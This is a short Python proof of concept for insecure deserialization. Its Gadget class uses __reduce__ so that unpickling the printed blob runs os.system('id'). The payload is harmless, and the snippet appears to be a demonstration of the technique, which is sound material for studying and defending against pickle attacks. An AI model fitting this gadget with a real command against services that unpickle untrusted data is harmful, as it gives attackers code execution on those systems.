# Pickle gadget: whoever unpickles this object runs os.system("id").
import os
import pickle


class Gadget:
    def __reduce__(self):
        return (os.system, ("id",))


blob = pickle.dumps(Gadget())
print(blob)
